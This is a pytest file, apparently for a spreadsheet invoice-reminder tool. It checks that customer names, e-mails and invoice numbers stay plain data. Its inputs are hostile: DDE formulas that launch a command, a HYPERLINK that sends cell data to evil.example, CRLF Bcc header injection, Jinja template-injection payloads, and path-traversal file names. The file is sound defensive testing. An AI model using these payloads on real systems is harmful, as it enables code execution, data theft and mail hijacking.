"""Customer text is data, never code: through the real ``sheetcollect run``, a customer's name,
e-mail or invoice number can start no formula in the sheets, add no e-mail header, run no
template code, and put no draft file outside the drafts folder or on a Windows device name."""

from __future__ import annotations

import json
import re
import warnings
from datetime import date, timedelta
from email import policy
from email.parser import BytesParser
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner

from sheetcollect.cli import cli

from .builders import write_workbook

AS_OF = date(2026, 11, 23)
HEADER = ["Invoice", "Customer", "E-mail", "Due date", "Amount"]
OVERDUE = AS_OF - timedelta(days=10)  # reminder 2: a draft is due today
WINDOWS_DEVICES = {"con", "prn", "aux", "nul", *(f"com{n}" for n in range(1, 10)),
                   *(f"lpt{n}" for n in range(1, 10))}  # fmt: skip


def run(folder: Path, rows: list[list[object]]) -> tuple[Path, dict]:
    """Write a ledger of ``rows`` in ``folder``, run sheetcollect on it, return it and the JSON."""
    book = write_workbook(folder / "book.xlsx", [HEADER, *rows])
    result = CliRunner().invoke(cli, ["run", str(book), "--as-of", AS_OF.isoformat(), "--json"])
    assert isinstance(result.exception, SystemExit | None), result.exception
    assert result.exit_code in (0, 1), result.output
    return book, json.loads(result.stdout)


def load(path: Path) -> openpyxl.Workbook:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return openpyxl.load_workbook(path)


def drafts_folder(book: Path) -> Path:
    return book.parent / "reminders" / AS_OF.isoformat()


# -- formula injection -------------------------------------------------------------------------

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def test_formula_like_customer_text_stays_text_in_every_sheet_written(tmp_path):
    rows = [[f"INV-{n}", name, "", OVERDUE, 100 + n] for n, name in enumerate(FORMULAS)]
    book, document = run(tmp_path, rows)
    assert {i["customer"] for i in document["invoices"]} == set(FORMULAS)
    workbook = load(book)
    assert {"Contact log", "Reminders", "Summary"} <= set(workbook.sheetnames)
    seen = set()
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@")):
                    where = f"{sheet.title}!{cell.coordinate}"
                    assert cell.data_type == "s", f"{where} became a formula: {cell.value!r}"
                    if cell.value in FORMULAS and sheet.title != "Invoices":  # ours, not typed
                        seen.add(sheet.title)
                        # quotePrefix: Excel keeps it text even when the cell is edited
                        assert cell._style.quotePrefix, f"{where} is not marked as text"
    assert seen == {"Contact log", "Reminders", "Summary"}


# -- e-mail header injection -------------------------------------------------------------------


def test_a_line_break_in_an_address_gives_a_letter_and_never_a_header(tmp_path):
    rows = [
        ["INV-1", "Acme Ltd", "ap@acme.example\r\nBcc: thief@evil.example", OVERDUE, 100],
        ["INV-2\nBcc: thief@evil.example", "Bolt\r\nBcc: thief@evil.example", "ap@bolt.example",
         OVERDUE, 200],
    ]  # fmt: skip
    book, document = run(tmp_path, rows)
    by_customer = {d["customer"].split()[0]: d for d in document["drafts"]}
    assert by_customer["Acme"]["channel"] == "letter"  # no usable address: a letter instead
    assert any(  # named by its row (the message says which column)
        p["ref"] == "Invoices!A2" and "(e-mail)" in p["message"] and "line break" in p["message"]
        for p in document["problems"]
    )
    assert by_customer["Bolt"]["channel"] == "email"
    emails = list(drafts_folder(book).glob("*.eml"))
    assert emails
    for path in emails:
        message = BytesParser(policy=policy.default).parsebytes(path.read_bytes())
        assert "Bcc" not in message and "Cc" not in message
        # the name may read "Bolt Bcc: thief@…", quoted on one line: the only address is Bolt's
        assert [a.addr_spec for a in message["To"].addresses] == ["ap@bolt.example"]
        assert "\n" not in message["Subject"] and "\n" not in str(message["To"])
    for path in emails:  # the header block ends at the first blank line; the body may quote
        headers = path.read_bytes().split(b"\r\n\r\n", 1)[0]
        assert not re.search(rb"^(bcc|cc):", headers, re.MULTILINE | re.IGNORECASE)


# -- template injection ------------------------------------------------------------------------

TEMPLATE_TEXT = [
    "{{ 7*7 }}",
    "{% for c in ().__class__.__base__.__subclasses__() %}{{ c }}{% endfor %}",
    "{{ config }}{{ self.__init__.__globals__ }}",
]


def test_template_syntax_in_customer_text_is_printed_as_typed(tmp_path):
    rows = [[f"INV-{n}", name, f"ap{n}@x.example", OVERDUE, 100] for n, name in
            enumerate(TEMPLATE_TEXT)]  # fmt: skip
    book, document = run(tmp_path, rows)
    assert len(document["drafts"]) == len(TEMPLATE_TEXT)
    texts = []
    for path in drafts_folder(book).glob("*.eml"):
        message = BytesParser(policy=policy.default).parsebytes(path.read_bytes())
        texts.append(message.get_body(("plain",)).get_content())
    joined = "\n".join(texts)
    for name in TEMPLATE_TEXT:
        assert name in joined  # literally, as typed
    assert "<class" not in joined and "49" not in joined.replace("2026", "")


# -- file names from customer names ------------------------------------------------------------

HOSTILE_NAMES = [
    "../../etc/x",
    "..",
    "CON",
    "nul.txt",
    "Com1",
    "LPT9 ",
    "a/b\\c",
    "/etc/passwd",
    "C:\\Windows\\win.ini",
    "x" * 300,
    "😀😀",
    "\u202eexe.txt",  # right-to-left override
    " .hidden",
    "name\x00with nul",
]


def test_draft_files_stay_in_the_drafts_folder_with_safe_names(tmp_path):
    home = tmp_path / "a" / "b" / "c"
    home.mkdir(parents=True)
    rows = [[f"INV-{n}", name, "", OVERDUE, 100 + n] for n, name in enumerate(HOSTILE_NAMES)]
    book, document = run(home, rows)
    folder = drafts_folder(book)
    written = [Path(d["file"]) for d in document["drafts"]]
    assert len({d["customer"] for d in document["drafts"]}) == len(HOSTILE_NAMES)
    everything = {p for p in tmp_path.rglob("*") if p.is_file()}
    inside = {p for p in everything if folder in p.parents}
    assert everything - inside == {book, *(home / ".sheetcollect-backup").iterdir()}
    assert {p.resolve() for p in written} <= {p.resolve() for p in inside}
    for path in inside:
        stem = path.name.split(".")[0]
        assert re.fullmatch(r"[a-z0-9-]+(\.[a-z0-9_]+)+", path.name), path.name
        assert stem not in WINDOWS_DEVICES and len(path.name) <= 100, path.name


@pytest.mark.parametrize("name", ["CON", "aux", "Nul", "com1", "LPT1"])
def test_a_windows_device_name_never_becomes_a_file_name(tmp_path, name):
    _, document = run(tmp_path, [["INV-1", name, "", OVERDUE, 100]])
    [draft] = document["drafts"]
    assert Path(draft["file"]).name.split(".")[0] not in WINDOWS_DEVICES
